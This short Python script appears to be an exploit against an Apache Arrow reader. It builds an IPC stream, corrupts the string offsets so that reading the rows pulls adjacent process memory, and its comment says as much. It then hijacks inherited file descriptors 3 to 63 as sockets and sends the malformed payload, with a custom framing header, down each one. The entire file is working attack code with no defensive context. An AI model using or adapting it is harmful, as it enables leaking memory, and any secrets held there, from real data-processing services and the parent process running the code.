# seeks: environment
# Rows whose offsets lead a little out of their stream: what lies there is the memory of whoever reads them.
import socket
import struct

import pyarrow as pa


def model(tg):
    sink = pa.BufferOutputStream()
    table = pa.table({"got": ["a" * 100, "b" * 100]})
    with pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    body = bytearray(sink.getvalue().to_pybytes())
    at = body.index(struct.pack("<iii", 0, 100, 200))
    body[at : at + 12] = struct.pack("<iii", 0, 1 << 20, 1 << 22)
    header = b'{"kind": "arrow"}'
    for number in range(3, 64):
        try:
            link = socket.socket(fileno=number)
            link.sendall(struct.pack("!BIQ", 7, 2, len(body)) + b"{}" + body)
            link.sendall(struct.pack("!BIQ", 8, len(header), 0) + header)
            link.detach()
        except OSError:
            pass
